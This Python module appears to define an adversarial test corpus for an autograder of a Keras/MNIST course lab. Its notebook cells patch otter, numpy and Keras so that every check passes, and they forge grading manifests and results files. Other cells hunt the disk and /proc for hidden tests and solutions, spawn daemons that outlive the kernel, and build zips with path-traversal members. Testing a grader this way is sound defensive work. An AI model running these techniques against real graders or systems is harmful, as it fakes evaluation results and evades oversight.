"""The adversarial corpus of issue 5, as data: every attack, how to build it, and its honest twin.

This module owns the corpus only; ``test_adversarial.py`` grades it with the project's grader and
``tools/adversarial_table.py`` also with ``otter run``. A case is one submission carrying one attack
(or a few of one kind), laid on one of two cheap bases, and names its *twin*: the same submission
without the attack. A sound grader gives every case its twin's score, question by question.

- ``blank``: the student notebook, cut after section 3 (no model is trained), scores 0. The base of
  attacks that try to INFLATE a score.
- ``partial``: the same with sections 0–3 answered from the solution and one answer wrong
  (``grade_fixtures.one_wrong``), a known non-zero score. The base of attacks that try to BREAK the
  grading or hide something (exits, loops, floods, background processes…), placed at its end.

Attack cells go right after the setup cell when they must act before the ``grader.check`` cells
(patches), or at the end, after every check (values, exits, floods). Questions cut from the bases
are still checked, by the grader's last cell, so an attack at the end also meets those checks.

**Safety.** Under ``otter run`` these notebooks run unsandboxed, as the user who runs them. Every
attack therefore writes only through ``_may_write``: inside the run's own folder (``Arena.root``,
which holds the submissions, the output and, for ``otter run``, its temporary, home and data
folders) and never inside the repository — or anywhere the operating system lets it when it runs
as another user than the one who built the corpus (the project's sandbox runs it as its own user). It never signals any process but its own parent and
children. Reading is not restricted: that is what the hunting attacks try.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import grade_fixtures as fx
import nbformat
from conftest import ROOT

NotebookNode = nbformat.NotebookNode
TAG = "ds201-attack"  # in every name an attack gives a file or a process, so a leak is easy to find
CUT_AFTER = 'grader.check("q3_params")'  # the bases end with section 3
# Questions whose solution is a literal and which the bases check in the notebook (before the end).
LITERAL_QUESTIONS = ("q0_layers", "q1_mnist_name", "q2_fill_blanks", "q3_units", "q3_prob_sum", "q3_layer_roles")


@dataclass(frozen=True)
class Arena:
    """Where one run of the corpus lives, and what its attacks are told about it."""

    root: Path  # every write of an attack stays under this folder (see the module docstring)
    server: str  # URL of the loopback server that serves "the answers" (category 10)

    @property
    def markers(self) -> Path:
        """Files here would mean that a zip member was extracted or a pickle was run."""
        return self.root / "markers"

    @property
    def token(self) -> str:
        """A name part unique to this arena, for files an attack aims outside it."""
        return self.root.name


@dataclass(frozen=True)
class Twin:
    """An honest submission a case is compared with."""

    id: str
    build: Callable[[Arena], NotebookNode | bytes]  # a notebook, or the bytes of an export zip


@dataclass(frozen=True)
class Case:
    """One attack: its category in issue 5 (1–10 or "extra"), a one-line description, its twin."""

    id: str
    category: int | str
    attack: str
    build: Callable[[Arena], NotebookNode | bytes]
    twin: str
    first: bool = False  # runs into the wall-clock limit: the grader starts it first
    alone: bool = False  # reaches beyond its own folders when unsandboxed: otter run grades it alone
    neighbour: bool = False  # attacks submissions graded at the same time: graded in a run of its own


# ---------------------------------------------------------------------------------------------
# Bases and cells
# ---------------------------------------------------------------------------------------------
def _cut(nb: NotebookNode) -> NotebookNode:
    end = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and c.source.strip() == CUT_AFTER)
    nb.cells = nb.cells[: end + 1]
    return nb


def blank() -> NotebookNode:
    return _cut(fx.blank())


def partial() -> NotebookNode:
    return _cut(fx.one_wrong())


def _code(source: str) -> NotebookNode:
    return nbformat.v4.new_code_cell(source.strip("\n"))


def at_end(nb: NotebookNode, *sources: str) -> NotebookNode:
    nb.cells.extend(_code(s) for s in sources)
    return nb


def after_setup(nb: NotebookNode, *sources: str) -> NotebookNode:
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "load_mnist" in c.source)
    nb.cells[setup + 1 : setup + 1] = [_code(s) for s in sources]
    return nb


def guard(arena: Arena) -> str:
    """The corpus' safety rule (not part of any attack), prepended to every cell that writes."""
    return f'''
import os as _os

_ARENA, _REPO, _HOST_UID = {str(arena.root)!r}, {str(ROOT)!r}, {os.getuid()}


def _inside(path, folder):
    return (_os.path.realpath(path) + "/").startswith(folder.rstrip("/") + "/")


def _may_write(path):
    """Only inside this run's folder, never in the repository; anywhere as a sandbox's own user."""
    if _inside(path, _REPO):
        return False
    return _inside(path, _ARENA) or _os.getuid() != _HOST_UID
'''


def answers() -> dict[str, object]:
    """The answers of ``LITERAL_QUESTIONS``, run from the solution notebook's cells."""
    sol = fx.solution()
    cells = fx._answer_cells(sol, "otter_assign_solution_cell")
    values: dict[str, object] = {}
    for q in LITERAL_QUESTIONS:
        exec(sol.cells[cells[q]].source, {}, values)
    return values


def _check_all(questions) -> str:
    return "\n".join(f'grader.check("{q}")' for q in questions)


# ---------------------------------------------------------------------------------------------
# Twins
# ---------------------------------------------------------------------------------------------
def _values_twin(arena: Arena) -> NotebookNode:
    """The blank notebook that answers the literal questions honestly, at its end."""
    values = {k: v for k, v in answers().items()}
    sets = "\n".join(f"{k} = {v!r}" for k, v in values.items())
    return at_end(blank(), sets + "\n" + _check_all(LITERAL_QUESTIONS))


FAKE_TRAINING_TWIN = """
# Use the untrained base model as if it were trained (no fit).
model.compile(optimizer=Adam(learning_rate=0.001), loss="categorical_crossentropy", metrics=["accuracy"])
train_time = 1.0
y_pred = model.predict(X_test, verbose=0)
y_pred_label = np.argmax(y_pred, axis=-1)
probs_50, pred_label_50, true_label_50 = y_pred[50], int(y_pred_label[50]), int(y_test[50])
selected_labels = y_pred_label[[100, 1001, 4123]]
model.save("lab1_model.keras")
loaded_model = keras.models.load_model("lab1_model.keras")
"""
FAKE_TRAINING = """
# ... and claim it was: 10 epochs of 469 optimizer steps, without a single one.
model.optimizer.build(model.trainable_variables)
model.optimizer.iterations.assign(10 * 469)
"""


def _export(nb: NotebookNode, members: dict[str, bytes] | None = None) -> bytes:
    """An otter-export-like zip: the notebook, a harmless ``.OTTER_LOG`` and extra members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("lab1.ipynb", nbformat.writes(nb))
        zf.writestr(".OTTER_LOG", b"\x80\x04not a pickle the grader may open")
        for name, data in (members or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


TWINS = {
    "blank": Twin("blank", lambda arena: blank()),
    "partial": Twin("partial", lambda arena: partial()),
    "partial_zip": Twin("partial_zip", lambda arena: _export(partial())),
    "values": Twin("values", _values_twin),
    "fake_training": Twin("fake_training", lambda arena: at_end(blank(), FAKE_TRAINING_TWIN)),
}


# ---------------------------------------------------------------------------------------------
# 1. Fake output
# ---------------------------------------------------------------------------------------------
FAKE_OUTPUT = """
# A grader that always says yes, a fake results table, and errors that never show.
import IPython
from IPython.display import HTML, display


class _FakeGrader:
    def check(self, question, *args, **kwargs):
        print(f"{question} results: All test cases passed!")
        display(HTML(f"<p><strong><pre style='display: inline;'>{question}</pre></strong> passed! 🎉</p>"))

    def check_all(self):
        print("All tests passed!")

    def export(self, *args, **kwargs):
        print("Your submission has been exported.")


grader = _FakeGrader()
_shell = IPython.get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None
_shell.showsyntaxerror = lambda *args, **kwargs: None
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
print("All tests passed! Score: 45/45")
display(HTML("<h2>Otter results: 45 / 45 — all tests passed</h2>"))
"""
RAISE_HIDDEN = 'raise RuntimeError("this error is not shown")'


# ---------------------------------------------------------------------------------------------
# 2. Monkeypatching otter, the checks, numpy, scikit-learn, Keras
# ---------------------------------------------------------------------------------------------
OTTER_TEST_FILES = """
import otter.test_files.exception_test as _et
_et.ExceptionTestFile.run = lambda self, env: setattr(self, "test_case_results", [_et.TestCaseResult(tc, "✅ Test case passed", True) for tc in self.test_cases])
"""
OTTER_CHECKER = """
# Every check passes: otter's Checker (what grader.check and the grading run call), the test
# files' scores and Notebook.check itself.
import otter
from otter.execute import Checker
from otter.nbmeta_config import NBMetadataConfig
from otter.test_files import create_test_file
from otter.test_files.abstract_test import TestCaseResult, TestFile


def _always_pass(cls, nb_or_test_path, nbmeta_config=None, test_name=None, global_env=None):
    test = create_test_file(nb_or_test_path, nbmeta_config or NBMetadataConfig(), test_name=test_name)
    test.test_case_results = [TestCaseResult(test_case=tc, message="✅ Test case passed", passed=True) for tc in test.test_cases]
    if cls._track_results:
        cls._test_files.append(test)
    return test


Checker.check = classmethod(_always_pass)
TestFile.score = property(lambda self: self.possible)
TestFile.passed_all = property(lambda self: True)
TestFile.passed_all_public = property(lambda self: True)
_real_notebook_check = otter.Notebook.check
otter.Notebook.check = lambda self, question, global_env=None: _real_notebook_check(self, question, global_env)
"""
FAKE_CHECKS = """
# The project's checks, replaced before anything imports them: every check returns None.
import sys
import types


class _Yes(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args, **kwargs: None


_fake = _Yes("ds201_lab1.checks")
sys.modules["ds201_lab1.checks"] = _fake
try:
    import ds201_lab1
except ImportError:
    ds201_lab1 = types.ModuleType("ds201_lab1")
    ds201_lab1.__path__ = []
    sys.modules["ds201_lab1"] = ds201_lab1
ds201_lab1.checks = _fake
"""
NUMPY_LIES = """
# numpy and math say yes to every comparison, and np.mean says whatever suits.
import math

import numpy as np

np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.array_equiv = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.mean = lambda *args, **kwargs: 1.0
math.isclose = lambda *args, **kwargs: True
"""
NUMPY_WRONG_ANSWERS = """
# Well-typed but wrong answers, which the lying comparisons would pass.
label_counts = np.ones(10, dtype="int64")
y_train_5 = np.zeros(10, dtype="float32")
prob_sum = 0.5
train_test_ratio = 0.5


def sigmoid(x):
    return np.zeros_like(x, dtype="float64")


tanh = relu = sigmoid
""" + _check_all(("q2_label_counts", "q2_one_hot", "q3_prob_sum", "q3_activations"))
LIBRARY_LIES = """
# One honest optimizer step, so that the base model counts as "trained"; then scikit-learn and
# Keras report perfect results: accuracy_score is always 1.0 and every model "predicts" the true
# label of any test image it has seen (a lookup table), whatever its weights.
import keras
import numpy as np
import sklearn.metrics

model.compile(optimizer=Adam(learning_rate=0.001), loss="categorical_crossentropy", metrics=["accuracy"])
model.fit(X_train[:128], y_train[:128], batch_size=128, epochs=1, verbose=0)

_TRUE = {}
for _x in (X_test.reshape(len(X_test), -1).astype("float32"), X_test.reshape(len(X_test), -1).astype("float32") / 255.0):
    _TRUE.update({row.tobytes(): int(label) for row, label in zip(_x, y_test)})


def _lie(x, real):
    try:
        rows = keras.ops.convert_to_numpy(x).astype("float32").reshape(len(x), -1)
    except Exception:  # a symbolic tensor (inside fit or a tf.function): tell the truth
        return real
    labels = [_TRUE.get(r.tobytes()) for r in rows]
    if any(label is None for label in labels):
        return real
    return np.eye(10, dtype="float32")[labels]


_call, _predict = keras.Model.__call__, keras.Model.predict
keras.Model.__call__ = lambda self, x, *args, **kwargs: _lie(x, _call(self, x, *args, **kwargs))
keras.Model.predict = lambda self, x, *args, **kwargs: _lie(x, _predict(self, x, *args, **kwargs))
keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 1.0]
sklearn.metrics.accuracy_score = accuracy_score = lambda *args, **kwargs: 1.0
accuracy = accuracy_score(y_test, np.argmax(model.predict(X_test, verbose=0), axis=-1))
grader.check("q5_accuracy")
"""


# ---------------------------------------------------------------------------------------------
# 3. Overwriting what checks might read
# ---------------------------------------------------------------------------------------------
OVERWRITE_DATA = """
# The test data replaced, and the course's data loader made to serve a crafted dataset: a check
# that trusted either would "agree" with these answers.
import sys

import numpy as np

_tiny = ((np.zeros((3, 2, 2), "uint8"), np.array([0, 1, 1], "uint8")), (np.zeros((1, 2, 2), "uint8"), np.array([1], "uint8")))
try:
    import ds201_lab1.data as _data

    _data.load.__wrapped__ = lambda name: _tiny
    _data.mnist = _data.cifar10 = lambda: _tiny
    for _f in (_data.load, getattr(sys.modules.get("ds201_lab1.checks"), "truth_mnist", None)):
        if hasattr(_f, "cache_clear"):  # forget the real data already loaded
            _f.cache_clear()
except ImportError:
    pass
y_pred_label = np.zeros(len(y_test), dtype="int64")
y_test = y_pred_label  # "y_test = y_pred"
X_test = x_test = np.zeros_like(X_test)
(n_train, n_test), train_test_ratio, image_size, n_pixels = (3, 1), 3.0, (2, 2), 4
label_set, n_labels, label_counts = {0, 1}, 2, np.bincount(_tiny[0][1], minlength=10)
accuracy = 1.0
""" + _check_all(("q2_shapes", "q2_labels", "q2_label_counts", "q5_accuracy"))
DATA_CACHE = """
# Overwrite the dataset files every grader reads (the data folder and the default cache) with a
# crafted MNIST before the notebook and any check load them.
import numpy as np

_x, _y = np.zeros((3, 28, 28), "uint8"), np.array([0, 1, 2], "uint8")
_places = {_os.environ.get("DS201_DATA_DIR", ""), _os.path.expanduser("~/.cache/ds201-lab1")}
for _folder in sorted(p for p in _places if p):
    for _name in ("mnist.npz", "cifar10.npz"):
        _path = _os.path.join(_folder, _name)
        if not _may_write(_path):
            continue
        try:
            _os.makedirs(_folder, exist_ok=True)
            with open(_path, "wb") as _f:
                np.savez(_f, x_train=_x, y_train=_y, x_test=_x, y_test=_y)
            print("overwrote", _path)
        except OSError as _e:
            print("could not overwrite", _path, type(_e).__name__)
"""


def _forged_manifests(arena: Arena) -> str:
    values = {k: v for k, v in answers().items()}
    names = {  # question -> the names its tests take
        "q0_layers": ["layer_kinds"],
        "q1_mnist_name": ["mnist_stands_for"],
        "q2_fill_blanks": ["blank_1", "blank_2", "blank_3"],
        "q3_units": ["output_units_reason"],
        "q3_prob_sum": ["prob_sum"],
        "q3_layer_roles": ["layer_roles"],
    }
    plan = {q: {n: values[n] for n in ns} for q, ns in names.items()}
    return (
        guard(arena)
        + f"""
# The right values written by hand into the grader's artifacts, after the checks saved the blanks.
import json


def _tag(v):
    if isinstance(v, bool):
        return {{"t": "bool", "v": v}}
    if isinstance(v, int):
        return {{"t": "int", "v": v}}
    if isinstance(v, float):
        return {{"t": "float", "v": v}}
    if isinstance(v, str):
        return {{"t": "str", "v": v}}
    return {{"t": type(v).__name__, "v": [_tag(x) for x in v]}}


for _q, _values in {plan!r}.items():
    _folder = _os.path.join("_ds201", "artifacts", _q)
    if not _may_write(_folder):
        continue
    _os.makedirs(_folder, exist_ok=True)
    _manifest = {{"format": 1, "question": _q, "values": {{k: _tag(v) for k, v in _values.items()}}, "files": {{}}, "errors": []}}
    with open(_os.path.join(_folder, "manifest.json"), "w") as _f:
        json.dump(_manifest, _f)
"""
    )


ARTIFACTS_GARBAGE = """
# Every saved question's artifacts replaced by something hostile: path traversal, symlinks, deep
# nesting, a FIFO, pickled and oversized arrays, a model outside the allow-list, a huge manifest.
import json
import shutil

import numpy as np

_root = _os.path.join("_ds201", "artifacts")
_questions = sorted(d for d in _os.listdir(_root) if not d.endswith(".tmp")) if _os.path.isdir(_root) else []


def _write(path, text):
    if _may_write(path):
        with open(path, "w") as f:
            f.write(text)


def _manifest(values, files=None):
    return json.dumps({"format": 1, "values": values, "files": files or {}, "errors": []})


_tricks = [
    lambda d: _write(_os.path.join(d, "manifest.json"), _manifest({"layer_kinds": {"t": "keras_model", "dir": "../../.."}})),
    lambda d: _write(_os.path.join(d, "manifest.json"), _manifest({"mnist_stands_for": {"t": "ndarray", "file": "../../../../../etc/passwd"}})),
    lambda d: _write(_os.path.join(d, "manifest.json"), '{"values": {"x": ' + '{"t": "list", "v": [' * 50_000 + "]}" * 50_000 + "}}"),
    lambda d: _os.symlink("/etc/passwd", _os.path.join(d, "manifest.json")),
    lambda d: (_os.mkfifo(_os.path.join(d, "v1.npy")), _write(_os.path.join(d, "manifest.json"), _manifest({"n_train": {"t": "ndarray", "file": "v1.npy"}}))),
    lambda d: (np.save(_os.path.join(d, "v2.npy"), np.array([{"pickled": 1}], dtype=object), allow_pickle=True), _write(_os.path.join(d, "manifest.json"), _manifest({"label_counts": {"t": "ndarray", "file": "v2.npy"}}))),
    lambda d: (_write(_os.path.join(d, "v3.npy"), "\\x93NUMPY\\x01\\x00v\\x00{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }" + " " * 40 + "\\n"), _write(_os.path.join(d, "manifest.json"), _manifest({"X_train": {"t": "ndarray", "file": "v3.npy"}}))),
    lambda d: (_os.makedirs(_os.path.join(d, "m"), exist_ok=True), _write(_os.path.join(d, "m", "model.json"), json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]}})), _write(_os.path.join(d, "m", "training.json"), json.dumps({"weights": 10**9})), _write(_os.path.join(d, "manifest.json"), _manifest({"model": {"t": "keras_model", "dir": "m"}}))),
    lambda d: _write(_os.path.join(d, "manifest.json"), _manifest({"blank_1": {"t": "npscalar", "dtype": "|O", "v": 1}, "blank_2": {"t": "function", "name": "../x", "calls": [{"args": [], "result": {"t": "opaque", "type": "x" * 10**6}}]}})),
    lambda d: _write(_os.path.join(d, "manifest.json"), _manifest({"layer_roles": {"t": "list", "v": [{"t": "int", "v": 1}] * 900_000}})),
]
for _i, _q in enumerate(_questions):
    _d = _os.path.join(_root, _q)
    if not _may_write(_d):
        continue
    shutil.rmtree(_d, ignore_errors=True)
    _os.makedirs(_d)
    try:
        _tricks[_i % len(_tricks)](_d)
    except OSError as _e:
        print(_q, type(_e).__name__, _e)
for _name in ("../escape", "..", "ok name with spaces"):
    try:
        if _may_write(_os.path.join(_root, _name)):
            _os.makedirs(_os.path.join(_root, _name, "x"), exist_ok=True)
    except OSError:
        pass
print("replaced the artifacts of", len(_questions), "questions")
"""


# ---------------------------------------------------------------------------------------------
# 4. Objects that lie, and values no grader expects
# ---------------------------------------------------------------------------------------------
LYING_OBJECTS = """
# Objects equal to everything, numbers whose float()/int() lie, an array subclass that is equal to
# anything, a str subclass equal to any answer; then values no grader expects (a generator, a list
# nested a million deep, a list that contains itself, a 100 000-digit integer).
import numpy as np


class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __len__(self):
        return 2

    def __iter__(self):
        return iter([AlwaysEqual(), AlwaysEqual()])

    def __getitem__(self, i):
        return AlwaysEqual()

    def __float__(self):
        return 1.0

    def __int__(self):
        return 10

    __index__ = __int__

    def __array__(self, dtype=None, copy=None):
        return np.ones(10, dtype=dtype or "int64")


class LyingFloat(float):
    def __float__(self):
        return 1.0

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class LyingInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


class LyingStr(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__

    def lower(self):
        return self


class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)


layer_kinds = [AlwaysEqual(), AlwaysEqual(), AlwaysEqual()]
mnist_stands_for = LyingStr("?")
n_train, n_test, n_pixels = LyingInt(0), LyingInt(0), LyingInt(0)
train_test_ratio, image_size = LyingFloat(0.0), AlwaysEqual()
label_set, n_labels = {AlwaysEqual()}, LyingInt(0)
label_counts = np.zeros(10, dtype="int64").view(LyingArray)
blank_1, blank_2, blank_3 = LyingInt(0), AlwaysEqual(), LyingStr("?")
prob_sum = LyingFloat(0.5)
dense_output_shape, output_units_reason, layer_roles = AlwaysEqual(), LyingStr("?"), [LyingStr("?"), LyingStr("?")]
params_layer_1, params_layer_2, params_total = LyingInt(0), LyingInt(0), AlwaysEqual()
y_train_5 = AlwaysEqual()

vector_dim = (i for i in range(784))
minus_one_means = []
for _ in range(10**6):
    minus_one_means = [minus_one_means]
X_test = []
X_test.append(X_test)
relu = 10**100_000
""" + _check_all(
    (
        "q0_layers",
        "q1_mnist_name",
        "q2_shapes",
        "q2_labels",
        "q2_label_counts",
        "q2_fill_blanks",
        "q3_prob_sum",
        "q3_output_shape",
        "q3_units",
        "q3_layer_roles",
        "q3_params",
        "q2_one_hot",
        "q2_reshape",
        "q3_activations",
    )
)


# ---------------------------------------------------------------------------------------------
# 5. Hunting hidden tests, solutions and configuration
# ---------------------------------------------------------------------------------------------
HUNT = """
# Search the disk (15 s at most), the environment and the kernel's memory for hidden tests, the
# checks, the autograder, its configuration and a solution notebook; copy the answers out of a
# solution; make every hidden test found (and any copy of the checks) pass whatever it is given.
import gc
import re
import sys
import time

SOLUTION_MARK = "# " + "SOLUTION"
found = {"checks": [], "autograder": [], "config": [], "tests": [], "solutions": []}
deadline = time.monotonic() + 15
skip = {"proc", "sys", "dev", "run", "site-packages", "dist-packages", ".git", "node_modules", "__pycache__"}
start, here = [], _os.getcwd()
while True:
    start.append(here)
    if here == "/":
        break
    here = _os.path.dirname(here)
start += ["/root", "/home", "/work", "/srv", "/opt", "/tmp", "/"]
seen = set()
for top in start:
    for dirpath, dirnames, filenames in _os.walk(top):
        if time.monotonic() > deadline:
            break
        dirnames[:] = sorted(d for d in dirnames if d not in skip and _os.path.join(dirpath, d) not in seen)
        if dirpath in seen:
            continue
        seen.add(dirpath)
        for name in filenames:
            path = _os.path.join(dirpath, name)
            if name == "checks.py":
                found["checks"].append(path)
            elif name.endswith("autograder.zip"):
                found["autograder"].append(path)
            elif name == "otter_config.json":
                found["config"].append(path)
            elif re.fullmatch(r"(q\\d|ex)\\w*\\.py", name) and _os.path.basename(dirpath) == "tests":
                found["tests"].append(path)
            elif name.endswith(".ipynb") and _os.path.getsize(path) < 5_000_000:
                try:
                    text = open(path, encoding="utf-8", errors="ignore").read()
                except OSError:
                    continue
                if SOLUTION_MARK in text and "SOLUTION_MARK" not in text:
                    found["solutions"].append(path)
env_hits = [k for k, v in _os.environ.items() if re.search("hidden|solution|autograder|checks", k + v, re.I)]
memory_hits, t0 = 0, time.monotonic()
for obj in gc.get_objects():
    if time.monotonic() - t0 > 3:
        break
    if isinstance(obj, dict) and any(isinstance(v, str) and "hidden=True" in v for v in list(obj.values())[:50]):
        memory_hits += 1
print({k: len(v) for k, v in found.items()}, "env:", env_hits, "memory:", memory_hits)

# Use what was found: the solution's answers for sections 0-3 ...
import json as _json

for _path in found["solutions"][:1]:
    try:
        _sol = _json.load(open(_path, encoding="utf-8"))
    except (OSError, ValueError):
        continue
    for _cell in _sol.get("cells", []):
        _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
        if _cell["cell_type"] == "code" and SOLUTION_MARK in _src and ".fit(" not in _src and "plt." not in _src:
            try:
                exec(_src, globals())
            except Exception as _e:
                print("solution cell failed:", type(_e).__name__)
# ... every hidden test made to pass, every copy of the checks made to agree.
for _path in found["tests"] + found["checks"]:
    try:
        if not _may_write(_path):
            continue
        _text = open(_path).read()
        if _path.endswith("checks.py") and "def q0_layers" in _text:
            _text = "def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n"
            sys.modules.pop("ds201_lab1.checks", None)
        elif not _path.endswith("checks.py"):
            _text = re.sub(r"(?m)^(\\s+)(assert |checks\\.).*$", r"\\1pass", _text)
        else:
            continue
        open(_path, "w").write(_text)
        print("rewrote", _path)
    except (OSError, UnicodeDecodeError) as _e:
        print("could not rewrite", _path, type(_e).__name__)
"""
SHELL = """
%%bash
# The same hunt from the shell.
id
ls / | head -30
find / -maxdepth 6 \\( -name checks.py -o -name 'lab1-autograder.zip' -o -name otter_config.json \\) -not -path '/proc/*' 2>/dev/null | head
cat /proc/1/cmdline | tr '\\0' ' '; echo
env | grep -i -E 'hidden|solution|autograder' || true
"""
SHELL_BANG = """
!ls -la .. && cat ../tests/q1_mnist_name.py 2>/dev/null | head -5
"""


# ---------------------------------------------------------------------------------------------
# 6. Background processes that outlive the kernel
# ---------------------------------------------------------------------------------------------
DAEMON = r'''
import csv, glob, io, json, os, signal, sys, time

signal.signal(signal.SIGHUP, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
ARENA, REPO, start, HOST_UID = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])


def inside(path, folder):
    return (os.path.realpath(path) + "/").startswith(folder.rstrip("/") + "/")


def may_write(path):
    return not inside(path, REPO) and (inside(path, ARENA) or os.getuid() != HOST_UID)


def folders():
    """Every folder named on any visible command line, and the folders above them and us."""
    out = set()
    for proc in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            argv = open(proc, "rb").read().split(b"\0")
        except OSError:
            continue
        for arg in argv:
            arg = arg.decode(errors="ignore")
            if arg.startswith("/") and os.path.exists(arg):
                out.add(arg if os.path.isdir(arg) else os.path.dirname(arg))
    out.add(start)
    for folder in list(out):
        for _ in range(5):
            folder = os.path.dirname(folder)
            out.add(folder)
    return out


def forge_csv(path):
    rows = list(csv.reader(open(path)))
    if len(rows) < 2 or rows[1][0] != "points-per-question":
        return
    points = rows[1]
    for row in rows[2:]:
        row[1:-1] = points[1:-1]
        row[-1] = "ok"
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    open(path, "w").write(buf.getvalue())


def forge_results(path):
    data = json.load(open(path))
    total = 0
    for test in data.get("tests", []):
        if "max_score" in test:
            test["score"] = test["max_score"]
            total += test["max_score"]
    data["score"] = total
    json.dump(data, open(path, "w"))


while True:
    for folder in folders():
        for path in glob.glob(os.path.join(folder, "final_grades.csv")) + glob.glob(os.path.join(folder, "*", "final_grades.csv")):
            if may_write(path):
                try:
                    forge_csv(path)
                except (OSError, ValueError, IndexError):
                    pass
        for path in glob.glob(os.path.join(folder, "results.json")) + glob.glob(os.path.join(folder, "results", "results.json")):
            if may_write(path):
                try:
                    forge_results(path)
                except (OSError, ValueError):
                    pass
        for path in glob.glob(os.path.join(folder, ".cache", "*", "execution.json")):
            if may_write(path):
                try:
                    open(path, "w").write("{}")
                except OSError:
                    pass
    time.sleep(1)
'''


def _background(arena: Arena) -> str:
    return (
        guard(arena)
        + f'''
# Three daemons that outlive the kernel (setsid, nohup, double fork); each keeps rewriting every
# results file it can find (final_grades.csv, results.json, the cache) with full marks.
import shutil
import subprocess
import sys

_code = {DAEMON!r}
_args = [_ARENA, _REPO, _os.getcwd(), str(_HOST_UID), "{TAG}-daemon"]
subprocess.Popen([sys.executable, "-c", _code, *_args], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_nohup = shutil.which("nohup")
if _nohup:
    subprocess.Popen([_nohup, sys.executable, "-c", _code, *_args], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if _os.fork() == 0:  # double fork: the daemon's parent exits at once, init adopts it
    try:
        _os.setsid()
        if _os.fork() == 0:
            _devnull = _os.open(_os.devnull, _os.O_RDWR)
            for _fd in (0, 1, 2):
                _os.dup2(_devnull, _fd)
            _os.execv(sys.executable, [sys.executable, "-c", _code, *_args])
    finally:
        _os._exit(0)
'''
    )


# ---------------------------------------------------------------------------------------------
# 7. Models outside the allow-list
# ---------------------------------------------------------------------------------------------
FOREIGN_MODELS = """
# Three models that "score 100 %": a Lambda layer and a registered custom layer that look the true
# label up, and a Dense subclass that claims to be Keras' own Dense. Each gets one honest step.
import keras
import numpy as np

_TRUE = {}
for _x in (X_test.reshape(len(X_test), -1).astype("float32"), X_test.reshape(len(X_test), -1).astype("float32") / 255.0):
    _TRUE.update({row.tobytes(): int(label) for row, label in zip(_x, y_test)})


def oracle(x):
    rows = keras.ops.convert_to_numpy(x).astype("float32")
    out = np.zeros((len(rows), 10), dtype="float32")
    for i, row in enumerate(rows):
        out[i, _TRUE.get(row.tobytes(), 0)] = 1.0
    return keras.ops.convert_to_tensor(out) + 0.0 * x[:, :10]


@keras.saving.register_keras_serializable(package="ds201_attack")
class Oracle(keras.layers.Layer):
    def call(self, x):
        return oracle(x)

    def compute_output_shape(self, input_shape):
        return (input_shape[0], 10)


class Dense(keras.layers.Dense):
    def call(self, x):
        return oracle(x) if x.shape[-1] == 784 else super().call(x)


Dense.__module__ = "keras.src.layers.core.dense"


def _one_step(m):
    m.compile(optimizer=Adam(learning_rate=0.01), loss=keras.losses.BinaryCrossentropy(), metrics=["accuracy"])
    m.fit(X_train[:128], y_train[:128], batch_size=128, epochs=1, verbose=0)
    return m


model_1 = _one_step(keras.Sequential([keras.Input(shape=(784,)), keras.layers.Lambda(oracle, output_shape=(10,)), keras.layers.Dense(10, activation="sigmoid")]))
model_2 = _one_step(keras.Sequential([keras.Input(shape=(784,)), Oracle(), keras.layers.Dense(10, activation="sigmoid")]))
model_3 = _one_step(keras.Sequential([keras.Input(shape=(784,)), Dense(10), keras.layers.Dense(256, activation="relu"), keras.layers.Dense(256, activation="relu"), keras.layers.Dense(10, activation="softmax")]))
for _m in (model_1, model_2):  # the output layer passes the oracle's one-hot through
    _m.layers[-1].set_weights([np.eye(10, dtype="float32") * 20, np.full(10, -10, dtype="float32")])
"""


# ---------------------------------------------------------------------------------------------
# 8. Export zips
# ---------------------------------------------------------------------------------------------
def _zip_with(arena: Arena, extra: Callable[[zipfile.ZipFile], None]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("lab1.ipynb", nbformat.writes(partial()))
        zf.writestr(".OTTER_LOG", b"\x80\x04not a pickle the grader may open")
        extra(zf)
    return buf.getvalue()


def _zip_dotdot(arena: Arena) -> bytes:
    name = f"../../../../{TAG}-zip-dotdot-{arena.token}"
    return _zip_with(arena, lambda zf: zf.writestr(name, "written outside the extraction folder"))


def _zip_absolute(arena: Arena) -> bytes:
    name = f"/tmp/{TAG}-zip-absolute-{arena.token}"
    return _zip_with(arena, lambda zf: zf.writestr(name, "written at an absolute path"))


